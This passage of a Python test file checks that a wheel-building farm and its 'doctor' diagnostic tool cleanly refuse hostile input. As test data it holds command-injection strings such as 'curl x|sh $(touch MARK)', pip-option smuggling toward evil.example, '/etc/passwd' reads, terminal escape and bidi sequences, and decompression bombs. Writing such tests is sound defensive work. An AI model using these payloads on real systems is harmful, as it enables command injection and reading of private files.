    Case("resolve-wheel-variants-files-a-string", 2, "wheel_variants.files: expected dict",
         _variant_index(lambda d: d["wheel_variants"].update(files="x"))),
    Case("verify-provenance-source-a-list", 2, "source: expected dict", _verify_case(_provenance_wheel({"source": ["x"]}))),
    # --- empty and malformed fields
    Case("drift-python-tag-empty-minor", 9, "not a dotted version",
         _drift_case([_torch_file(filename="torch-2.15.0-cp3-cp3-manylinux_2_28_x86_64.whl")], _meta(b"numpy"))),
    Case("resolve-wheel-variants-release-empty-part", 2, "is not a version",
         _variant_index(lambda d: d["wheel_variants"].update(releases={"mamba-ssm": ["2..3"]}))),
    # --- markers packaging refuses to evaluate
    Case("drift-marker-undefined-comparison", 9, "cannot be evaluated",
         _drift_case([_torch_file()], _meta(b'cuda-toolkit==13.0.2; python_version ~= "abc"'))),
    # --- bytes that are not text, and lone surrogates
    Case("drift-metadata-not-utf8", 9, "not UTF-8", _drift_case([_torch_file()], _meta(b'cuda-toolkit==13.0.2; os_name == "\xff"'))),
    Case("resolve-label-surrogate", 2, "wheel_variants", _variant_index(_relabel("\ud800"))),
    Case("verify-provenance-surrogate", 15, "with uncommitted changes",
         _verify_case(_provenance_wheel({"source": {"kind": "checkout", "commit": "\udcff\ud800" * 8, "dirty": True}}))),
    # --- terminal controls and bidi overrides, from a label or a file name
    Case("resolve-label-escapes", 2, "wheel_variants", _variant_index(_relabel(ESCAPES))),
    Case("cache-escape-in-slot-name", 0, "torch venv(s)",
         _smoke_case(lambda s, w, c: (s / f"cp311-torch2.14.1{ESCAPES}").symlink_to(c))),
    # --- links out of the farm's own folders
    Case("cache-complete-links-outside", 0, "skipped, not a complete venv", _smoke_case(_outside_complete),
         absent="SECRET-OUTSIDE"),
    # --- one run's budget of time and network bytes, and compressed input capped
    Case("drift-ranged-deflate-bomb", 9, "compressed", _deflate_bomb),
    Case("drift-budget-bytes", 9, "raise it with --budget-mb",
         _with(_drift_case([_torch_file()], _meta(b"numpy") + b"Summary: " + b"x" * (3 << 20) + b"\n"), "--budget-mb", "1")),
    Case("drift-budget-seconds", 9, "raise it with --budget-seconds or MAMBA_FARM_RUN_SECONDS",
         _with(_drift_case([_torch_file(url="../../../trickle/torch-2.15.0.whl")], None), MAMBA_FARM_RUN_SECONDS="3")),
]  # fmt: skip


def _matrix_edit(pattern: str, replacement: str, command: str = "plan"):
    """``plan`` (or ``render``) of this checkout's matrix.toml with one line replaced, in the scratch folder."""
    import re

    def make(world: World, scratch: Path) -> list[str]:
        (scratch / "mamba_ssm").mkdir()
        shutil.copy(CODE / "mamba_ssm" / "__init__.py", scratch / "mamba_ssm" / "__init__.py")
        text = re.sub(pattern, lambda _: replacement, (CODE / "matrix.toml").read_text(), count=1)
        (scratch / "matrix.toml").write_bytes(text.encode("utf-8", "surrogateescape"))
        if command == "render":
            return ["render", "--matrix", str(scratch / "matrix.toml"), "--out", str(scratch / "out")]
        return ["plan", "--matrix", str(scratch / "matrix.toml")]

    return make


def _recipe_edit(old: str, new: bytes):
    def make(world: World, scratch: Path) -> list[str]:
        path = _recipe(scratch / "recipes", "0" * 64)
        path.write_bytes(path.read_bytes().replace(old.encode(), new))
        return ["recipe", "explain", "evil", "--recipes", str(scratch / "recipes"), *TORCH_CELL]

    return make


def _fetch_page(body: bytes):
    def page(world: World, scratch: Path):
        project = scratch.name.replace("_", "-")
        folder = world.site / "simple" / project
        folder.mkdir(parents=True)
        (folder / "index.html").write_bytes(body)
        return "4" * 64, f"{world.url}/simple"

    return page


def _live_generation(manifest: bytes | None, outside: bool = False):
    """``index --out`` a link to a generation whose manifest is ``manifest``, or (``outside``) to a folder
    outside the index's root: what the index reads as its own record."""

    def make(world: World, scratch: Path) -> list[str]:
        (scratch / "wheels").mkdir()
        make_mamba_wheel(scratch / "wheels", LABEL, "cp312")
        gen = (world.root / f"elsewhere-{scratch.name}") if outside else scratch / ".out.d" / "gen-1"
        gen.mkdir(parents=True)
        if manifest is not None:
            (gen / "manifest.json").write_bytes(manifest)
        (scratch / "out").symlink_to(gen)
        return ["index", "--wheels", str(scratch / "wheels"), "--out", str(scratch / "out")]

    return make


def _cached_metadata_link(world: World, scratch: Path) -> dict:
    """drift's metadata cache holds the listed sha256's file as a link to a file outside the cache."""
    made = _drift_case([_torch_file()], _meta(b"numpy"))(world, scratch)
    secret = world.root / f"secret-{scratch.name}.txt"
    secret.write_text("Name: torch\nRequires-Dist: SECRET-OUTSIDE-THE-CACHE==1.0\n")
    (scratch / "cache" / "metadata").mkdir(parents=True)
    (scratch / "cache" / "metadata" / ("a" * 64 + ".METADATA")).symlink_to(secret)
    return made


def _real_wheel(world: World, scratch: Path) -> list[str]:
    return [str(make_mamba_wheel(scratch, LABEL, "cp311"))]


CASES += [
    # --- shapes (the other readers: recipes and matrices are checked key by key, cost records field by field)
    Case("release-cost-a-list", 2, "expected", _cost_case(_cost_record("job-cost.json", [1]))),
    Case("fetch_json_files_a_string", 9, "fetch_json_files_a_string", _fetch_case(_fetch_page(b'{"files": "x"}'))),
    Case("recipe-build-env-a-list", 2, "must be a table", _recipe_edit('[build.env]\nEVIL_FORCE_BUILD = "TRUE"', b'env = ["x"]')),
    # --- installs: the index snapshot the resolvers read, and the record it updates
    Case("installs-listing-a-string", 9, "not a listing the snapshot wrote",
         _installs_case(_listing_edit(lambda files: b'"a string"'))),
    Case("installs-listing-sha256-empty", 9, "is not 64 lowercase hex digits",
         _installs_case(_listing_edit(lambda files: json.dumps([{**f, "sha256": ""} for f in files]).encode()))),
    Case("installs-listing-name-escapes", 9, "is not a plain file name",
         _installs_case(_listing_edit(lambda files: json.dumps(
             [{**f, "filename": "\x1b[2J\u202etorch-2.9.1-cp311-cp311-manylinux_2_28_x86_64.whl"} for f in files]).encode()))),
    Case("installs-metadata-not-utf8", 9, "not UTF-8", _installs_case(_metadata_not_utf8)),
    Case("installs-metadata-links-outside", 9, "the snapshot holds what the farm refuses to read",
         _installs_case(_metadata_links_outside), absent="SECRET-OUTSIDE-THE-SNAPSHOT"),
    Case("installs-record-a-list", 2, "not an installs record", _installs_case(_record_a_list)),
    # --- installs: what a lock names, the cache it is kept in, where --export and --locks write, the resolver's bounds
    Case("installs-listing-url-closes-toml", 9, "is not a plain URL", _installs_case(_torch_url(_CLOSES_TOML))),
    Case("installs-listing-url-file", 9, "is not an https URL", _installs_case(_torch_url("file:///etc/passwd"))),
    Case("installs-listing-url-plain-http", 9, "is not an https URL",
         _installs_case(_torch_url("http://evil.example/torch.whl"))),
    Case("installs-listing-url-escape", 9, "is not a plain URL",
         _installs_case(_torch_url("https://x.example/\x1b]0;pwned\x07torch.whl"))),
    Case("installs-record-url-closes-toml", 9, "not recorded",
         _recorded_from([_torch_file(url=_CLOSES_TOML, filename="torch-2.9.1-cp311-cp311-manylinux_2_28_x86_64.whl")])),
    Case("installs-cache-lock-edited", 9, "its lock is not the one it was stored with", _cached(_lock_edited)),
    Case("installs-cache-lock-rehashed", 9, "not written", _cached(lambda e, s: _lock_edited(e, s, rehash=True))),
    Case("installs-cache-fifo", 9, "not a regular file (a FIFO)", _cached(_entry_fifo)),
    Case("installs-cache-dev-zero", 9, "a link, or reached through one", _cached(_entry_dev_zero)),
    Case("installs-export-into-its-snapshot", 2, "is the snapshot the resolvers read",
         _installs_argv_with("--export", "{snapshot}")),
    Case("installs-export-into-a-folder-of-it", 2, "is the snapshot the resolvers read",
         _installs_argv_with("--export", "{snapshot}/pages")),
    Case("installs-export-a-file", 2, "is not a folder",
         _installs_argv_with("--export", "{scratch}/matrix.toml")),
    Case("installs-locks-a-file", 2, "is not a folder", _installs_argv_with("--locks", "{scratch}/matrix.toml")),
    Case("installs-metadata-resolver-bomb", 9, "candidate limit", _installs_case(_resolver_bomb)),
    Case("matrix-torch-a-string", 2, "must be an array", _matrix_edit(r"\ntorch = \[[^\]]*\]", '\ntorch = "2.14"')),
    Case("render-matrix-torch-a-string", 2, "must be an array",
         _matrix_edit(r"\ntorch = \[[^\]]*\]", '\ntorch = "2.14"', "render")),
    Case("index-live-manifest-a-list", 5, "expected a JSON object", _live_generation(b"[1]")),
    # --- empty and malformed fields
    Case("recipe-version-empty", 2, "is not a version", _recipe_edit('version = "1.0"', b'version = ""')),
    Case("matrix-torch-empty-part", 2, "is not a torch major.minor", _matrix_edit(r"\ntorch = \[[^\]]*\]", '\ntorch = ["2."]')),
    Case("render-matrix-python-empty-part", 2, "is not a Python version",
         _matrix_edit(r"\npython = \[[^\]]*\]", '\npython = ["3."]', "render")),
    Case("release-cost-wall-empty", 2, "not a number of seconds",
         _cost_case(_cost_record("job-cost.json", {"job": "j", "wall_s": "", "cpu_s": 1}))),
    Case("index-metadata-version-empty", 2, "METADATA says version",
         _index_case(lambda f, w: _wheel_with(f, {f"{INFO}/METADATA": b"Metadata-Version: 2.1\nName: mamba-ssm\nVersion: \n"}))),
    Case("verify-spec-id-empty-part", 15, "no plan has a build cpu-torch2.-cxx11abiTRUE",
         lambda w, s: ["reproduce", "--rebuild", "cpu-torch2.-cxx11abiTRUE-cp311-linux_x86_64", *_real_wheel(w, s)]),
    Case("cache-budget-empty-number", 2, "is not a size", _smoke_case(lambda s, w, c: None, "--budget", "G")),
    # --- bytes that are not text
    Case("index-metadata-not-utf8", 2, "not UTF-8",
         _index_case(lambda f, w: _wheel_with(f, {f"{INFO}/METADATA": b"Metadata-Version: 2.1\nName: mamba-ssm\nVersion: 0.3.0+"
                                                  + LABEL.encode() + b"\nSummary: \xff\xfe\n"}))),
    Case("recipe-not-utf8", 2, "not UTF-8", _recipe_edit('EVIL_FORCE_BUILD = "TRUE"', b'EVIL_FORCE_BUILD = "\xff"')),
    Case("matrix-not-utf8", 2, "not UTF-8", _matrix_edit(r"\n\[axes\]", "\n# \udcff\n[axes]")),
    Case("render-matrix-not-utf8", 2, "not UTF-8", _matrix_edit(r"\n\[axes\]", "\n# \udcff\n[axes]", "render")),
    Case("release-cost-not-utf8", 2, "not UTF-8", _cost_case(lambda f: (f / "job-cost.json").write_bytes(b'{"job": "\xff"}'))),
    Case("cache-complete-not-utf8", 0, "skipped, not a complete venv",
         _smoke_case(lambda s, w, c: next(s.rglob(".complete")).write_bytes(b"torch==2.14.1\xff\n"))),
    Case("verify-provenance-not-utf8", 2, "not UTF-8", _verify_case(lambda w, s: _provenance_bytes(s, b'{"source": "\xff"}'))),
    Case("fetch_page_not_utf8", 9, "fetch_page_not_utf8", _fetch_case(_fetch_page(b'<a href="x\xff.tar.gz">\xfe\xff</a>'))),
    # --- terminal controls and bidi overrides
    Case("recipe-name-escapes", 2, "Illegal character",
         _recipe_edit('[project]\nname = "evil"', '[project]\nname = "evil\x1b]0;x\x07\u202e"'.encode())),
    Case("matrix-torch-escapes", 2, "is not a torch major.minor",
         _matrix_edit(r"\ntorch = \[[^\]]*\]", '\ntorch = ["\\u001b[2J\\u202e\\r"]')),
    Case("render-matrix-torch-escapes", 2, "is not a torch major.minor",
         _matrix_edit(r"\ntorch = \[[^\]]*\]", '\ntorch = ["\\u001b[2J\\u202e\\r"]', "render")),
    Case("rehearse-workflow-escapes", 2, "not a workflow of", _rehearse("--workflow", "\x1b[2J\u202e\r.yml")),
    Case("fetch_link_escapes", 9, "fetch_link_escapes",
         _fetch_case(_fetch_page(f'<a href="fetch_link_escapes-1.0.tar.gz">{ESCAPES}</a>\n'.encode()))),
    # --- links out of the farm's own folders
    Case("index-out-links-outside", 5, "outside", _live_generation(b'{"schema": 1, "files": {}}', outside=True)),
    Case("drift-cached-metadata-links-outside", 9, "never what a link points at", _cached_metadata_link,
         absent="SECRET-OUTSIDE"),
]  # fmt: skip


def _provenance_bytes(scratch: Path, raw: bytes) -> list[str]:
    from wheelmaker import make_wheel

    files = {"demo/__init__.py": b"", "demo-1.0.dist-info/farm-provenance.json": raw}
    return [str(make_wheel(scratch, "demo", "1.0", "cp311-cp311-linux_x86_64", files=files))]


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    w = World(tmp_path_factory.mktemp("hostile"))
    yield w
    w.server.shutdown()
    w.server.server_close()


def _allowed_cache_change(world: World, rel: str, pin_folders: set[str]) -> bool:
    parts = Path(rel).parts
    # quarantine, this case's new pin folder, and the git repositories the cache keeps (one per URL)
    return parts[:2] == ("farm", "sdists") and len(parts) >= 3 and (parts[2] in ("quarantine", "git") or parts[2] in pin_folders)


def _probe_shell(scratch: Path) -> bool:
    """Whether an accepted BASH_ENV reaches build.sh's shell (a marker in the scratch folder says it did)."""
    hook = scratch / "hook.sh"
    hook.write_text(f"touch {scratch / 'reached'}\n")
    env = {**os.environ, "BASH_ENV": str(hook), "FARM_PYTHON": "/bin/false", "FARM_BUILD_ID": "probe",
           "FARM_OUT": str(scratch / "o"), "FARM_SRC": str(scratch)}  # fmt: skip
    subprocess.run(["bash", str(CODE / "builder" / "building" / "executors" / "build.sh")], env=env, capture_output=True,
                   timeout=30, check=False)  # fmt: skip
    return (scratch / "reached").exists()


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_input(world: World, case: Case):
    scratch = world.cases / case.name
    scratch.mkdir()
    pins0 = {p.name for p in (world.farm / "sdists").iterdir()}
    if snapshot(world.published) != world.pristine_view:  # an earlier case changed it (a regression would): each case
        shutil.rmtree(world.published)  # starts from the same published index
        subprocess.run(["cp", "-al", str(world.pristine), str(world.published)], check=True)
    made = case.make(world, scratch)
    if isinstance(made, dict):  # {"argv": [...], "env": {...}}: a case with its own environment
        argv, env = made["argv"], made.get("env", {})
    else:
        argv, env = (made, {}) if isinstance(made[0], str) else (made[0], {"PIP_INDEX_URL": made[1]})
    env = {"MAMBA_FARM_CACHE": str(world.farm), **case.env, **env}
    before = snapshot(world.root, skip=(scratch, world.pristine))
    rc, out, err = _run(argv, env, scratch)
    after = snapshot(world.root, skip=(scratch, world.pristine))
    changed = sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))
    pin_folders = {p.name for p in (world.farm / "sdists").iterdir()} - pins0  # this case's pin only
    outside = [k for k in changed if not _allowed_cache_change(world, k, pin_folders)]
    published = [
        k for k in changed if k.startswith(("published", os.path.join("farm", "sdists", world.victim.parent.name)))
    ]
    reached = case.probe_shell and rc == 0 and _probe_shell(scratch)
    result = {
        "case": case.name, "expect": case.expect, "exit": rc, "clear": case.message in err or case.message in out,
        "traceback": "Traceback" in err, "written_outside": outside, "published_changed": published,
        "reached_shell": reached, "stderr": err.strip().splitlines()[-1:] if err.strip() else [],
        "error_line": err.startswith("error: ") or "\nerror: " in err,
        "escape": any(c in out + err for c in "\x1b\x07\r\u202e"),  # a raw control or bidi character printed
    }  # fmt: skip
    if REPORT:
        with open(REPORT, "a") as f:
            f.write(json.dumps(result) + "\n")
    assert result["traceback"] is False, err
    assert result["escape"] is False, (out[-2000:], err[-2000:])
    assert not case.absent or case.absent not in out + err, (out[-2000:], err[-2000:])
    assert rc == case.expect, (rc, out[-2000:], err[-2000:])
    assert result["clear"], err
    if case.expect:
        assert err.startswith("error: ") or "\nerror: " in err, err
    assert not outside, f"written outside the scratch folder (or the cache changed): {outside[:5]}"
    assert not published and world.victim.read_bytes() and not reached


# =========================================================================== the doctor
# `python -m mamba_ssm.doctor` against hostile pasted text, outside values, indexes and installed files. Its own
# block (own cases, launcher and test) beside the builder's: same assertions, plus no raw control character
# printed. A case gives (argv, env, stdin): stdin is bytes, or a callable giving a file descriptor.

# (its imports here, not at the top: the block stands apart from the builder's, for clean merges)
import shlex

import hostilekit
from hostilekit import FAKE_LINE, raw_hidden

_DOCTOR_LIMITED = _LIMITED.replace("'-m', 'builder'", "'-m', 'mamba_ssm.doctor'")
DOCTOR_SYMBOL = "_ZN3c105ErrorC2ENS_14SourceLocationENSt7__cxx1112basic_stringIcSt11char_traitsIcESaIcEEE"
DOCTOR_SHELL_INDEX = "https://x.example/my wheels; curl x|sh $(touch MARK) `touch MARK2`"


@dataclass
class DoctorCase:
    name: str
    expect: int | set  # exit code (a set: either, e.g. with or without a built extension in the checkout)
    message: str  # what stdout or stderr must say
    make: callable  # (doctor_world, scratch) -> (argv, env, stdin)
    needs_torch: bool = False  # the prebuilt lookup runs only where the doctor can read a torch


class DoctorWorld:
    def __init__(self, root: Path, index_url: str) -> None:
        import venv

        self.root, self.index_url = root, index_url
        self.cases = root / "cases"
        self.cases.mkdir(parents=True)
        # An interpreter without torch (or anything else) for the cases that do not look anything up: the doctor
        # runs on the standard library alone, and no case waits for torch to import twice on a loaded machine.
        venv.create(root / "bare", with_pip=False)
        self.bare = str(root / "bare" / "bin" / "python")


def _stdin(data: bytes):
    return lambda w, s: (["--explain", "-"], {}, data)


def _silent_fifo(w: DoctorWorld, scratch: Path):
    fifo = scratch / "log"
    os.mkfifo(fifo)
    return ["--explain", "-"], {}, lambda: os.open(fifo, os.O_RDWR)  # a writer that never writes


def _site(scratch: Path, so: bytes | None = None, files: dict | None = None, version: str = V) -> Path:
    """A site folder holding this checkout's mamba_ssm, an extension (bytes) and a dist-info with FILES."""
    site = scratch / "site"
    shutil.copytree(CODE / "mamba_ssm", site / "mamba_ssm", ignore=shutil.ignore_patterns("__pycache__", "*.so"))
    info = site / f"mamba_ssm-{version}.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: mamba-ssm\nVersion: {version}\n")
    record = [f"{info.name}/METADATA,,"]
    if so is not None:
        (site / "mamba_ssm" / "_C.cpython-311-x86_64-linux-gnu.so").write_bytes(so)
        record.append("mamba_ssm/_C.cpython-311-x86_64-linux-gnu.so,,")
    for name, make in (files or {}).items():
        make(site / name)
        record.append(f"{name},,")
    (info / "RECORD").write_text("\n".join(record) + "\n")
    return site


def _installed(**kw):
    def make(w: DoctorWorld, scratch: Path):
        return ["--offline", "--json"], {"PYTHONPATH": str(_site(scratch, **kw))}, None

    return make


def _bad_elf_header() -> bytes:
    """A 64-bit ELF header whose section table lies outside the file (old readers: IndexError, struct.error)."""
    import struct

    head = b"\x7fELF\x02\x01\x01" + b"\0" * 9
    head += struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 0, 0xFFFFFFF0, 0, 64, 56, 0, 64, 0xFFFF, 0xFFFE)
    return head + b"\xff" * 64


def _lookup(kind: str):
    return lambda w, s: (["--index", f"{w.index_url}/{kind}"], {}, None)


def _torch_says(version: str | None, *argv: str, env: dict | None = None, init: str = "", dist: str | None = None):
    """`--requirements upstream` (then ARGV, under ENV) with a torch (on the path) whose version.py says VERSION, whose
    __init__ runs INIT first and whose pip metadata says DIST (None: none, as conda's); VERSION None: no torch."""

    def make(w: DoctorWorld, scratch: Path):
        site = scratch / "site"
        if dist is not None:
            (site / f"torch-{dist}.dist-info").mkdir(parents=True)
            (site / f"torch-{dist}.dist-info" / "METADATA").write_text(f"Metadata-Version: 2.1\nName: torch\nVersion: {dist}\n")
        if version is not None:
            (site / "torch").mkdir(parents=True)
            (site / "torch" / "__init__.py").write_text(
                init + "from . import version\n__version__ = version.__version__\nclass _C:\n    _GLIBCXX_USE_CXX11_ABI = True\n"
                "class cuda:\n    @staticmethod\n    def is_available():\n        return False\n"
            )
            (site / "torch" / "version.py").write_text(f"__version__ = {version!r}\ncuda = '13.0'\nhip = None\n")
        return ["--requirements", "upstream", *argv], {"PYTHONPATH": f"{site}{os.pathsep}{CODE}", **(env or {})}, None

    return make


def _non_utf8_site(w: DoctorWorld, scratch: Path):
    """The doctor's JSON over an install under a folder whose name is not UTF-8 (Python decodes it to surrogates)."""
    folder = Path(os.fsdecode(bytes(scratch) + b"/site-\xff\xfe"))
    folder.mkdir()
    site = _site(folder)
    return ["--offline", "--json"], {"PYTHONPATH": str(site)}, None


# What an index value carries into the printed requirements file must be one URL: each of these would be options
# that pip's own parser reads from the file.
EVIL_INDEXES = {
    "index-url": "https://x.example/w --index-url http://evil.example/simple/",
    "dash-r": "https://x.example/w -r /outside/evil.txt",
    "trusted-host": "https://x.example/w --trusted-host evil.example --extra-index-url http://evil.example/",
}


DOCTOR_CASES = [
    DoctorCase("doctor-explain-backtrack-build-env", 0, "note: the text has", _stdin(b"pip-build-env " * 75_000)),
    DoctorCase("doctor-explain-backtrack-no-torch", 1, "torch-missing", _stdin(b"No module named torch " * 48_000)),
    DoctorCase("doctor-explain-backtrack-module", 1, "torch-missing",
               _stdin(b"No module named 'torch' No module named " + b"a" * (1 << 20))),
    DoctorCase("doctor-explain-bad-utf8", 1, "nvcc-missing", _stdin(b"\xff\xfe\xc3\x28 nvcc was not found \xed\xa0\x80")),
    DoctorCase("doctor-explain-escape", 1, "\\x1b[2K\\r",
               _stdin(f"No such file or directory: '{FAKE_LINE}/bin/nvcc'".encode())),
    DoctorCase("doctor-explain-huge", 3, "more than 64 MiB", _stdin(b"x" * ((64 << 20) + 1))),
    DoctorCase("doctor-explain-fifo", 3, "stdin sent nothing within 20 s", _silent_fifo),
    DoctorCase("doctor-explain-empty", 3, "empty message", _stdin(b"\n\n")),
    DoctorCase("doctor-index-shell", 1, shlex.quote(DOCTOR_SHELL_INDEX + "/<variant>/"),
               lambda w, s: (["--explain", f"undefined symbol: {DOCTOR_SYMBOL}", "--index", DOCTOR_SHELL_INDEX], {}, None)),
    DoctorCase("doctor-env-index-shell", 1, shlex.quote(DOCTOR_SHELL_INDEX + "/<variant>/"),
               lambda w, s: (["--explain", f"undefined symbol: {DOCTOR_SYMBOL}"], {"MAMBA_WHEEL_INDEX": DOCTOR_SHELL_INDEX}, None)),
    DoctorCase("doctor-index-unknown-user", 1, "'~nosuchuser-hostile/wheels/<variant>/'",
               lambda w, s: (["--explain", "nvcc was not found", "--index", "~nosuchuser-hostile/wheels"], {}, None)),
    DoctorCase("doctor-index-newline", 2, "holds control characters",
               lambda w, s: (["--explain", "nvcc was not found", "--index", "https://x.example/\ncurl x|sh"], {}, None)),
    DoctorCase("doctor-env-index-escape", 2, "holds control characters",
               lambda w, s: (["--offline"], {"MAMBA_WHEEL_INDEX": f"https://x.example/{FAKE_LINE}"}, None)),
    DoctorCase("doctor-extension-truncated-elf", 1, '"inspect_error"', _installed(so=b"\x7fELF\x02\x01\x01\x00" + b"\xff" * 12)),
    DoctorCase("doctor-extension-lying-elf", 1, '"inspect_error"', _installed(so=_bad_elf_header())),
    DoctorCase("doctor-record-fifo", 1, '"elf_files": []', _installed(files={"mamba_ssm/pipe.bin": os.mkfifo})),
    DoctorCase("doctor-variant-json-deep", 1, '"variant_label": null',
               _installed(files={f"mamba_ssm-{V}.dist-info/variant.json": lambda p: p.write_text("[" * 100_000 + "]" * 100_000)})),
    # a torch version becomes a line of the requirements file: one that is not a version is refused, not written
    DoctorCase("doctor-requirements-version-newline", 1, "is not a version", _torch_says("2.14.1+cu130\n--index-url http://x.example/")),
    DoctorCase("doctor-requirements-version-escape", 1, "is not a version", _torch_says("2.14.1\x1b[2J\u202e")),
    DoctorCase("doctor-requirements-no-torch", 1, "no torch in this environment", _torch_says(None)),
    DoctorCase("doctor-requirements-version-arabic-digits", 1, "is not a version", _torch_says("2.8.0+cpu\u0661\u0662", dist="2.8.0")),
    DoctorCase("doctor-requirements-dist-version-arabic-digits", 1, "is not a version", _torch_says("2.8.0+cpu", dist="2.8.0+cpu\u0661\u0662")),
    DoctorCase("doctor-requirements-no-pip-metadata", 1, "no pip metadata", _torch_says("2.9.1+cu128")),
    DoctorCase("doctor-requirements-import-sleeps", 1, "did not finish within 20 s",
               _torch_says("2.14.1+cu130", init="import time\ntime.sleep(600)\n", dist="2.14.1")),
    *(DoctorCase(f"doctor-requirements-index-{name}", 2, "is not one http(s) URL",
                 _torch_says("2.14.1+cu130", "--index", value, dist="2.14.1")) for name, value in EVIL_INDEXES.items()),
    *(DoctorCase(f"doctor-requirements-env-index-{name}", 2, "MAMBA_WHEEL_INDEX",
                 _torch_says("2.14.1+cu130", env={"MAMBA_WHEEL_INDEX": value}, dist="2.14.1")) for name, value in EVIL_INDEXES.items()),
    DoctorCase("doctor-json-non-utf8-path", 1, r"site-\\xff\\xfe", _non_utf8_site),
    DoctorCase("doctor-lookup-trickle", {0, 1}, "no answer within 5 s", _lookup("trickle"), needs_torch=True),
    DoctorCase("doctor-lookup-huge-page", {0, 1}, "more than 16 MiB", _lookup("huge"), needs_torch=True),
    DoctorCase("doctor-lookup-not-http", {0, 1}, "cannot reach the wheel index", _lookup("nothttp"), needs_torch=True),
    DoctorCase("doctor-lookup-json-deep", {0, 1}, "none indexed for this variant", _lookup("deep"), needs_torch=True),
    DoctorCase("doctor-lookup-escaped-name", {0, 1}, "none indexed for this variant", _lookup("evil"), needs_torch=True),
]  # fmt: skip


def _own_file(data: bytes | None, *, name: str = "requirements.txt", stdin: bool = False, make=None):
    """`--requirements FILE` (or `-`, DATA on stdin) beside a stand-in CUDA 13 torch 2.14, with packaging (and
    nothing else of the test's venv) on the path: the user's own requirements file, hostile."""

    def run(w: DoctorWorld, scratch: Path):
        import packaging

        site = scratch / "site"
        (site / "torch").mkdir(parents=True)
        (site / "torch" / "__init__.py").write_text(
            "from . import version\n__version__ = version.__version__\nclass _C:\n    _GLIBCXX_USE_CXX11_ABI = True\n"
            "class cuda:\n    @staticmethod\n    def is_available():\n        return False\n"
        )
        (site / "torch" / "version.py").write_text("__version__ = '2.14.1+cu130'\ncuda = '13.0'\nhip = None\n")
        # pip's view of it (what a pin keeps): its distribution, as PyPI's CUDA torch has it, unlabelled
        (site / "torch-2.14.1.dist-info").mkdir()
        (site / "torch-2.14.1.dist-info" / "METADATA").write_text("Metadata-Version: 2.1\nName: torch\nVersion: 2.14.1\n")
        (site / "packaging").symlink_to(Path(packaging.__file__).parent)
        if make is not None:
            make(scratch)
        elif data is not None and not stdin:
            (scratch / name).write_bytes(data)
        return ["--requirements", "-" if stdin else name], {"PYTHONPATH": f"{site}{os.pathsep}{CODE}"}, data if stdin else None

    return run


def _own_silent_stdin(w: DoctorWorld, scratch: Path):
    """`--requirements -` on a FIFO nobody writes to: the doctor stops waiting (pins.STDIN_S)."""
    _argv, env, _ = _own_file(None, make=lambda s: None)(w, scratch)
    fifo = scratch / "in"
    os.mkfifo(fifo)
    return ["--requirements", "-"], env, lambda: os.open(fifo, os.O_RDWR)


# The user's own requirements file (mamba_ssm/doctor/pins.py): each case ends with its exit code and an `error:`
# line, or prints a file and says what it kept; an option line never reaches the printed file unsaid.
DOCTOR_CASES += [
    DoctorCase("doctor-own-huge", 3, "more than 1 MiB", _own_file(b"numpy\n" * 300_000)),
    DoctorCase("doctor-own-utf16-bom", 0, "mamba-ssm==", _own_file(codecs.BOM_UTF16_LE + "mamba-ssm\n".encode("utf-16-le"))),
    DoctorCase("doctor-own-nul", 3, "holds a NUL character", _own_file(b"mamba-ssm\n\x00\n")),
    DoctorCase("doctor-own-bad-utf8", 3, "not UTF-8 text", _own_file(b"mamba-ssm\n\xff\xfe\xc3(\n", stdin=True)),
    DoctorCase("doctor-own-escapes", 3, "holds control characters", _own_file(b"numpy\x1b[2J\xe2\x80\xae\nmamba-ssm\n")),
    DoctorCase("doctor-own-r-loop", 1, "does not follow", _own_file(b"-r requirements.txt\nmamba-ssm\n")),
    DoctorCase("doctor-own-r-passwd", 1, "does not follow", _own_file(b"-r /etc/passwd\n", stdin=True)),
    DoctorCase("doctor-own-constraint", 1, "does not follow", _own_file(b"-c c.txt\nmamba-ssm\n")),
    DoctorCase("doctor-own-editable", 0, "kept as it was: `-e .`", _own_file(b"-e .\nmamba-ssm\n")),
    DoctorCase("doctor-own-editable-mamba", 0, "a source build of mamba-ssm",
               _own_file(b"-e git+https://github.com/state-spaces/mamba.git#egg=mamba_ssm\n")),
    DoctorCase("doctor-own-index-url", 0, "kept as it was: `--index-url", _own_file(b"--index-url https://x.example/simple\nmamba-ssm\n")),
    DoctorCase("doctor-own-unknown-option", 1, "an option the doctor does not carry", _own_file(b"--no-binary :all:\nmamba-ssm\n")),
    DoctorCase("doctor-own-hash", 1, "belong to another wheel", _own_file(b"mamba-ssm==2.3.2.post1 --hash=sha256:00\n")),
    DoctorCase("doctor-own-name-at-url", 0, "mamba-ssm==", _own_file(b"mamba-ssm @ https://x.example/mamba_ssm-2.3.2.post1.tar.gz\n")),
    DoctorCase("doctor-own-wheel-url", 0, "mamba-ssm==2.3.2.post1+",
               _own_file(b"https://x.example/mamba_ssm-2.3.2.post1+cu12torch2.5cxx11abiFALSE-cp311-cp311-linux_x86_64.whl\n")),
    DoctorCase("doctor-own-fifo", 3, "not a regular file", _own_file(None, make=lambda s: os.mkfifo(s / "requirements.txt"))),
    DoctorCase("doctor-own-folder", 3, "not a regular file", _own_file(None, make=lambda s: (s / "requirements.txt").mkdir())),
    DoctorCase("doctor-own-stdin-silent", 3, "no answer within", _own_silent_stdin),
    # the file's name is printed in the file's first comment: escaped, never a line of its own
    DoctorCase("doctor-own-name-newline", 0, "for mamba-ssm", _own_file(b"mamba-ssm\n", name="r\n--index-url evil.txt")),
]  # fmt: skip


# --- the last classes of hostile input, in what the doctor reads of an installed wheel (text output: printed)


def _installed_edit(edit, *argv: str):
    """The doctor (text report, offline) over a site whose installed dist-info ``edit(info_folder)`` changes."""

    def make(w: DoctorWorld, scratch: Path):
        site = _site(scratch)
        edit(site / f"mamba_ssm-{V}.dist-info")
        return ["--offline", *argv], {"PYTHONPATH": str(site)}, None

    return make


def _write(name: str, data: bytes):
    return lambda info: (info / name).write_bytes(data)


DOCTOR_CASES += [
    DoctorCase("doctor-provenance-source-a-list", 1, "mamba_ssm", _installed_edit(_write("farm-provenance.json", b'{"source": ["x"], "id": 7}'))),
    DoctorCase("doctor-provenance-a-string", 1, "mamba_ssm", _installed_edit(_write("farm-provenance.json", rb'"\u001b[2J\ud800"'))),
